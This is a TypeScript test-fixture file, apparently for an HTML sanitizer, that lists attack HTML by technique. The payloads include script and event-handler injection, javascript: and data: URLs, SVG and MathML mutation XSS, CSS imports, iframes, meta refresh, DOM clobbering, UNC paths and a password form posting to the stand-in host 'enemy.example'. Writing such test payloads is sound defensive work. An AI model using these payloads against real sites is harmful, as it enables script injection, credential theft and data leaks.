/** The origin that the attacks try to load from or send to. */
export const enemy = "https://enemy.example";

/**
 * HTML that tries to run, load, navigate or disguise itself, by technique. Each contains the word "harmless", which
 * must be kept. Scripts set `isBreached`.
 */
export const attacks: Record<string, string> = {
  script: `<p>harmless</p><script>top.isBreached = isBreached = true</script><script src="${enemy}/1.js"></script>`,
  "event handler": `<p onmouseover="isBreached = true" onfocus="isBreached = true" tabindex="0" autofocus>harmless</p><img src="x" onerror="isBreached = true"><video><source onerror="isBreached = true"></video><details open ontoggle="isBreached = true"></details>`,
  "javascript: link": `<a href="javascript:isBreached = true">harmless</a><a href=" java&#10;script:isBreached = true">1</a><a href="JaVaScRiPt&colon;alert(1)">2</a><a href="data:text/html,<script>isBreached = true</script>">3</a><a href="vbscript:x">4</a><a href="file:///etc/passwd">5</a><a href="ms-msdt:/id">6</a>`,
  "SVG use": `<p>harmless</p><svg><use href="${enemy}/4.svg#x"/><use href="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIGlkPSJ4Ii8+#x"/><a xlink:href="javascript:isBreached = true"><text y="20">go</text></a><animate onbegin="isBreached = true"/></svg>`,
  "MathML mutation": `<p>harmless</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=isBreached=true&gt;"></table></mtext></math><form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=isBreached=true src=1>"></form>`,
  "style import": `<p style="background: url(${enemy}/6.png); position: fixed; inset: 0">harmless</p><style>@import "${enemy}/6.css"; p { background: url("${enemy}/6b.png") }</style><link rel="stylesheet" href="${enemy}/6.css">`,
  form: `<p>harmless</p><form action="${enemy}/7" method="post"><label>Password <input type="password" name="password"></label><button formaction="${enemy}/7b">Sign in</button></form>`,
  "remote image": `<p>harmless</p><img src="${enemy}/8.png" srcset="${enemy}/8b.png 2x"><picture><source srcset="${enemy}/8c.png"></picture><table background="${enemy}/8d.png"><tr><td background="${enemy}/8e.png">cell</td></tr></table><video poster="${enemy}/8f.png" src="${enemy}/8.mp4"></video><audio src="${enemy}/8.mp3" autoplay></audio><input type="image" src="${enemy}/8g.png">`,
  "frame in the frame": `<p>harmless</p><iframe srcdoc="<script>top.isBreached = true</script>"></iframe><iframe src="${enemy}/9.html"></iframe><object data="${enemy}/9.swf"></object><embed src="${enemy}/9b.swf"><frameset><frame src="${enemy}/9c.html"></frameset>`,
  "meta refresh": `<p>harmless</p><meta http-equiv="refresh" content="0; url=${enemy}/10"><base href="${enemy}/" target="_top"><a href="10b">go</a><link rel="prefetch" href="${enemy}/10c"><link rel="dns-prefetch" href="${enemy}">`,
  "DOM clobbering": `<p id="body" name="attributes">harmless</p><form id="attributes"><input name="parentNode"><input name="removeChild"><input name="nodeName"></form><a id="watchdesk"></a><a id="watchdesk" name="call" href="${enemy}/11">go</a><img name="createElement">`,
  "UNC path": `<p>harmless</p><a href="\\\\enemy.example\\share\\12">go</a><a href="//enemy.example/12">go</a><img src="\\\\enemy.example\\share\\12.png"><a href="file://enemy.example/share/12">go</a><a href="smb://enemy.example/share">go</a>`,
};
